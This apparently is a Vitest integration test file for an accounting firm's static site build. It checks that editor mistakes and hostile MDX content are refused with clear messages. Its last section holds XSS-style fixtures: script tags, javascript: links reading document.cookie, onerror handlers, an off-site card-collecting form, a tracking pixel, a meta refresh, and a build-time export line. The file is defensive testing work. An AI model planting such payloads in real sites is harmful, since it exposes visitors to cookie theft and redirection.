import { beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';
import { cleanBuild, copy } from './shared-copy';

/*
 * What an editor meets when they run `npm run build` (no cache cleared, as a host that keeps
 * node_modules between builds): a clean build says little, and a mistake stops the build with the
 * file, the line or field, and the fix, as the last thing printed, leaving dist/ as it was. In the
 * copy tests/integration share, built once (shared-copy.ts); each mistake is put back after its build.
 * That a change reaches every page is tests/integration/changed-data.test.ts. The values come from content/.
 */

const firm = (name: string) => parse(readFileSync(`content/firm/${name}.yaml`, 'utf8')) as Record<string, any>;

/** The last paragraph the build printed: the editor's message. */
const lastParagraph = (output: string) =>
  output
    .split(/\n\s*\n/)
    .at(-1)!
    .trim();

let first: { status: number | null; output: string };

beforeAll(() => {
  first = cleanBuild();
});

describe('a clean build', () => {
  it('succeeds and prints at most 40 lines', () => {
    expect(first.status, first.output).toBe(0);
    expect(first.output.split('\n').length).toBeLessThanOrEqual(40);
    expect(first.output).toMatch(/Built \d+ pages into dist\//);
  });
});

/** Makes the changes (a file that does not exist is written from ''), builds, puts the files back; returns the editor's message. */
function refusedWith(changes: [file: string, change: (text: string) => string][]): string {
  const originals = changes.map(([file]) => (copy.exists(file) ? copy.read(file) : undefined));
  const before = copy.distDigest();
  try {
    for (const [i, [file, change]] of changes.entries()) {
      if (originals[i] === undefined) copy.write(file, change(''));
      else copy.edit(file, change);
    }
    const result = copy.build();
    expect(result.status, result.output).toBe(1);
    expect(copy.distDigest(), 'not one byte of dist/ changed').toBe(before);
    expect(result.output).toMatch(/dist\/ still holds the last good build/);
    return lastParagraph(result.output);
  } finally {
    changes.forEach(([file], i) => {
      const original = originals[i];
      if (original === undefined) copy.delete(file);
      else copy.write(file, original);
    });
  }
}

/** Makes one mistake, builds, puts the file back; returns the editor's message. */
const refused = (file: string, change: (text: string) => string) => refusedWith([[file, change]]);

const page = 'content/services/accounting/bookkeeping.mdx';
const lineOf = (text: string, needle: string) => text.slice(0, text.indexOf(needle)).split('\n').length;

describe('a mistake stops the build in an editor’s words, and leaves dist/ as it was', () => {
  it('a link to a missing page in the text of a page', () => {
    const source = copy.read(page);
    const link = /\]\((\/[a-z-]+)\)/.exec(source.slice(source.indexOf('\n---', 4)))!;
    const target = link[1]!;
    const typo = `${target.slice(0, -2)}${target.at(-1)}${target.at(-2)}`;
    const line = lineOf(source, `](${target})`);
    const message = refused(page, (t) => t.replace(`](${target})`, `](${typo})`));
    expect(message).toBe(`${page}, line ${line}: the link ${typo} leads to no page. Did you mean ${target}?`);
  });

  it('a link to a missing page in a field', () => {
    const source = copy.read(page);
    const target = /href: "(\/[a-z-]+)"/.exec(source)![1]!;
    const message = refused(page, (t) => t.replace(`href: "${target}"`, `href: "${target}x"`));
    expect(message).toMatch(
      new RegExp(`^${page}, line ${lineOf(source, `href: "${target}"`)} \\((hero|section \\d+), (button|card) \\d+, href\\): the link ${target}x leads to no page\\. Did you mean ${target}\\?$`),
    );
  });

  it('a page missing from a testimonial’s pages', () => {
    const message = refused('content/testimonials/giulia.yaml', (t) => t.replace('pages: ["/contact"]', 'pages: ["/contact", "/contcat"]'));
    expect(message).toBe('content/testimonials/giulia.yaml, line 5 (page 2): the link /contcat leads to no page. Did you mean /contact?');
  });

  it('a date that does not exist', () => {
    const post = 'content/blog/choosing-mtd-software.mdx';
    const line = lineOf(copy.read(post), '\ndate:') + 1;
    const message = refused(post, (t) => t.replace(/\ndate: .*/, '\ndate: 2026-13-01'));
    expect(message).toBe(`${post}, line ${line} (date): "2026-13-01" is not a day that exists. Write the date as year-month-day, with the month from 01 to 12, for example 2026-08-11.`);
  });

  it('an unknown token in the text of a page, and in a field', () => {
    const service = Object.keys(firm('prices').startingPrices).find((id) => id.includes('-'))!;
    const short = service.split('-')[0]!;
    const source = copy.read(page);
    const bodyLine = lineOf(source, '\n---\n') + 3;
    const inBody = refused(page, (t) => t.replace(/\n---\n\n/, `\n---\n\nFrom {price:${short}} a month.\n`));
    expect(inBody).toBe(`${page}, line ${bodyLine}: {price:${short}} is not a token the site knows. Did you mean {price:${service}}? To show curly brackets as they are, write \\{ and \\}.`);

    const claim = Object.keys(firm('claims').claims ?? firm('claims')).find((id) => id.includes('-'))!;
    const typo = claim.replace('-', '');
    const inField = refused(page, (t) => t.replace(/\n {2}lead: "/, `\n  lead: "{claim:${typo}} `));
    expect(inField).toMatch(
      new RegExp(`^${page}, line ${lineOf(source, '\n  lead:') + 1} \\(hero, lead\\): \\{claim:${typo}\\} is not a token the site knows\\. Did you mean \\{claim:${claim}\\}\\?`),
    );
  });

  it('an Italian interface file missing a key the English one has', () => {
    const file = 'content/i18n/interface/it.yaml';
    const lines = copy.read(file).split('\n');
    // The last nested key of the file, and the top-level key above it.
    const at = lines.findLastIndex((l) => /^ {2}[a-zA-Z]+: ".*"$/.test(l));
    const key = /^ {2}([a-zA-Z]+):/.exec(lines[at]!)![1];
    const parent = /^([a-zA-Z]+):/.exec(lines.slice(0, at).findLast((l) => /^[a-zA-Z]+:/.test(l))!)![1];
    const message = refused(file, (t) => t.split('\n').toSpliced(at, 1).join('\n'));
    expect(message).toMatch(new RegExp(`^${file}, line \\d+ \\(${parent}, ${key}\\): the English file has \`${parent}\\.${key}\`; add it to ${file}`));
  });
});

/*
 * Content can only be content (issue 37): what a hostile clone of the site tried to ship is refused by
 * the build, in an editor's words, in the content sync (seconds, before MDX compiles anything), and
 * not one byte of dist/ changes. The many forms of each refusal are tests/unit/content-safety.test.ts;
 * here, one build per kind of refusal, on the shared copy (the hostile clone's is the URL field's).
 */
describe('content can only be content: the build refuses, and dist/ keeps every byte', () => {
  const post = 'content/blog/hostile-content.mdx';
  /** A new post whose text is `body` after an opening line: the body's first line is line 12. */
  const hostilePost = (body: string) => () =>
    [
      '---',
      'title: "What our clients asked this month"',
      'description: "A post written by someone who should not be trusted, to see what the build lets through to visitors."',
      'author: "Our MTD team"',
      'date: "2026-08-11"',
      'category: "software"',
      'tags: ["software"]',
      '---',
      '',
      'Here is what our clients asked.',
      '',
      body,
      '',
    ].join('\n');
  const bodyLine = 12;
  /** A file the hostile code writes if it ever runs while the site builds. */
  const written = 'written-by-content.txt';
  const writeFile = `export const written = process.getBuiltinModule('node:fs').writeFileSync('${written}', 'ran')`;

  it('the tester’s hostile clone (script, onerror=, javascript: links, an iframe, an off-site form, a tracking image, a refresh, an export, a javascript: booking page): refused at its first hostile field, nothing built or run', () => {
    const hostile = [
      writeFile,
      '',
      '<script>alert(document.domain)</script>',
      '',
      'See [our prices](javascript:alert(document.cookie)) and <img src="/logo.png" onerror="alert(1)" />.',
      '',
      '<iframe src="https://elsewhere.example/"></iframe>',
      '',
      '<form action="https://elsewhere.example/collect"><input name="card" /></form>',
      '',
      '![](https://tracker.example/pixel.gif)',
      '',
      '<meta http-equiv="refresh" content="4;url=https://elsewhere.example/" />',
    ].join('\n');
    const contact = 'content/firm/contact.yaml';
    const line = lineOf(copy.read(contact), 'bookingUrl:');
    const message = refusedWith([
      [post, hostilePost(hostile)],
      [contact, (t) => t.replace(/^bookingUrl: .*$/m, 'bookingUrl: "javascript:alert(document.cookie)"')],
    ]);
    // The firm's facts load first: the javascript: address in a URL field is the first refusal.
    expect(message).toBe(`${contact}, line ${line} (bookingUrl): must be the address of a web page, starting with https:// (for example https://calendly.com/your-firm/30min)`);
    expect(copy.exists(written), 'the export ran while the site built').toBe(false);
  });

  it('HTML outside the short list, with an on…= handler: a tracking image', () => {
    const message = refused(post, hostilePost('<img src="https://tracker.example/pixel.gif" alt="" onerror="alert(1)" />'));
    expect(message).toBe(
      `${post}, line ${bodyLine}: <img> would load a picture, possibly from another site (which then learns who reads the page); a page’s text cannot hold it. Put the picture in src/assets and write it in Markdown: ![What it shows](../../src/assets/uploads/photo.jpg).`,
    );
  });

  it('a refresh that sends visitors to another site after 4 s (the page’s CSP cannot stop it)', () => {
    const source = copy.read(page);
    const line = source.split('\n').length + 1;
    const message = refused(page, (t) => `${t}\n<meta http-equiv="refresh" content="4;url=https://elsewhere.example/" />\n`);
    expect(message).toBe(
      `${page}, line ${line}: <meta> would change how the page behaves (it can send visitors to another site); a page’s text cannot hold it. Delete it. Forms, the booking calendar and the cash-flow tool are the site’s components (content/README.md, "Tokens and components").`,
    );
  });

  it('a javascript: link written in Markdown in the text of a page', () => {
    const source = copy.read(page);
    const target = /\]\((\/[a-z-]+)\)/.exec(source.slice(source.indexOf('\n---', 4)))![1]!;
    const message = refused(page, (t) => t.replace(`](${target})`, '](javascript:alert(document.cookie))'));
    expect(message).toBe(
      `${page}, line ${lineOf(source, `](${target})`)}: the link javascript:alert(document.cookie) would run code in the visitor’s browser, not open a page. Link to a page of the site (/contact), an https:// address, mailto: or tel:.`,
    );
  });

  it('an export line, which MDX would run while the site builds: refused before it runs', () => {
    const message = refused(post, hostilePost(writeFile));
    expect(message).toMatch(new RegExp(`^${post}, line ${bodyLine}: a line starting with "export" is code, which would run on the computer that builds the site`));
    expect(copy.exists(written), 'the export ran while the site built').toBe(false);
  });
});
